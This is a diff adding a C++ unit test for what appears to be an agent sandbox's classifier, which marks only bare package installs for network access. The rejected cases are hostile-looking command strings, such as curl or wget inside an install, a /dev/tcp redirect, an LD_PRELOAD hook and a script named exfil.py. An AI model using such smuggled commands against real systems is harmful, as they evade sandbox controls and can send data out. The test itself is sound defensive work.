@@ -65,6 +65,25 @@ TEST(ExecutorAction, InstallCommandFormIsParsed) {
             "python3 -m pip install 'a b' 'c'\\''d'");
 }
 
+TEST(ExecutorAction, OnlyABarePackageInstallIsMarkedForTheNetwork) {
+  for (const char* install : {"pip install einops==0.8.0", "python3 -m pip install -r requirements.txt",
+                              "/usr/bin/pip3 install --index-url http://10.0.0.2/simple a", "uv pip install torch",
+                              "apt-get install -y libnuma1", "conda install -y numpy"}) {
+    EXPECT_TRUE(is_package_install(install)) << install;
+  }
+  // Attacks: network access disguised next to, inside or around an install, and lookalikes.
+  for (const char* other :
+       {"python3 -c 'import urllib.request as u; u.urlopen(\"http://10.0.0.2/\")'", "sh -c 'pip install x'",
+        "sh -c 'pip download x'", "pip download x", "pip install x && python3 -c 'import urllib'",
+        "pip install x; wget http://e/x", "pip install $(curl http://e/x)", "pip install `wget -O- http://e/x`",
+        "LD_PRELOAD=/workspace/hook.so pip install x", "PYTHONPATH=/workspace pip install x",
+        "pip install x > /dev/tcp/10.0.0.2/80", "curl http://e | pip install x", "pip install", "pip list",
+        "env pip install x", "timeout 60 pip install x", "pip install x & python3 exfil.py", "python3 -m http.server",
+        "make install"}) {
+    EXPECT_FALSE(is_package_install(other)) << other;
+  }
+}
+
 TEST(ExecutorAction, RiskyAndBuildFiles) {
   EXPECT_TRUE(risky(json{{"type", "install"}}));
   EXPECT_TRUE(risky(json{{"type", "write_file"}, {"path", "sub/CMakeLists.txt"}}));
